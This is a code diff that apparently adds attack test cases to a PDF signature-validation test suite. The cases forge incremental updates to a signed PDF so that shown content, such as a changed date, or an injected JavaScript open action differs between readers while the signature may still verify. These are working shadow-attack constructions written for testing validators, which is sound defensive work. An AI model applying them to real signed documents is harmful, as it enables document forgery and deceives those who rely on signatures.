@@ -161,6 +161,109 @@ def rewritten_whole():
     return make.pk(signed())
 
 
+# ---------------------------------------------------------------- what readers read differently
+class Appended:
+    """A signed file and an update written by hand: no library writes what these need."""
+
+    def __init__(self):
+        self.signed = signed()
+        self.data = bytearray(self.signed)
+        self.rows = []
+        self.root = int(re.findall(rb"/Root (\d+) 0 R", self.signed)[-1])
+        self.content = int(re.search(rb"/Contents (\d+) 0 R", self.signed)[1])
+        self.page = next(number for number in self.numbers() if b"/Contents %d 0 R" % self.content in self.body(number))
+
+    def numbers(self):
+        return [int(number) for number in re.findall(rb"(?m)^(\d+) 0 obj", self.signed)]
+
+    def place(self, number):
+        return [found.start() for found in re.finditer(rb"(?m)^%d 0 obj" % number, self.signed)][-1]
+
+    def body(self, number):
+        return self.signed[self.place(number) :].split(b" 0 obj", 1)[1].split(b"endobj", 1)[0].strip()
+
+    def unlisted(self, number, body):
+        at = len(self.data)
+        self.data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+        return at
+
+    def listed(self, number, body):
+        self.entry(number, self.unlisted(number, body))
+
+    def entry(self, number, place):
+        self.rows.append((number, place))
+
+    def other_content(self):
+        shown = b"BT /F1 12 Tf 72 400 Td (31/12/2099) Tj ET"
+        return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(shown), shown)
+
+    def previous(self):
+        return int(re.findall(rb"startxref\s+(\d+)", self.signed)[-1])
+
+    def written(self, row=b" n \n", trailer=b""):
+        table = len(self.data)
+        size = max([number + 1 for number, _ in self.rows] + [60])
+        self.data += b"xref\n" + b"".join(b"%d 1\n%010d 00000%s" % (number, place, row) for number, place in self.rows)
+        self.data += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d %s>>\n" % (size, self.root, self.previous(), trailer)
+        return bytes(self.data + b"startxref\n%d\n%%%%EOF\n" % table)
+
+
+@attack
+def hidden_content_behind_an_older_one():
+    """Another entry leads to the old content: a reader that goes by the numbers it finds there sees nothing new."""
+    update = Appended()
+    update.listed(update.content, update.other_content())
+    update.entry(50, update.place(update.content))
+    return update.written()
+
+
+@attack
+def hidden_script_behind_an_older_catalog():
+    update = Appended()
+    script = b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
+    update.listed(update.root, update.body(update.root).replace(b"/Type /Catalog", script))
+    update.entry(50, update.place(update.root))
+    return update.written()
+
+
+@attack
+def hidden_content_in_no_table():
+    """A reader that has come to the named table already rebuilds it, and finds what no table lists."""
+    update = Appended()
+    update.unlisted(update.content, update.other_content())
+    update.listed(50, b"<< /Type /DSS >>")
+    return update.written(trailer=b"/XRefStm %d " % update.previous())
+
+
+@attack
+def hidden_content_behind_short_rows():
+    """The same by rows of 19 bytes."""
+    update = Appended()
+    update.unlisted(update.content, update.other_content())
+    update.listed(50, b"<< /Type /DSS >>")
+    return update.written(row=b" n\n")
+
+
+@attack
+def hidden_content_and_nothing_added():
+    """The same, and no object is new."""
+    update = Appended()
+    update.unlisted(update.content, update.other_content())
+    update.entry(update.root, update.place(update.root))
+    return update.written(row=b" n\n")
+
+
+@attack
+def hidden_content_by_a_key_twice():
+    """Some readers take the first of two, others the last."""
+    update = Appended()
+    update.listed(50, update.other_content())
+    page = update.body(update.page)
+    twice = page.replace(b"/Contents", b"/Contents 50 0 R /Contents", 1)
+    update.listed(update.page, twice)
+    return update.written()
+
+
 # ---------------------------------------------------------------- what the signature covers
 def with_range(change):
     data = signed()
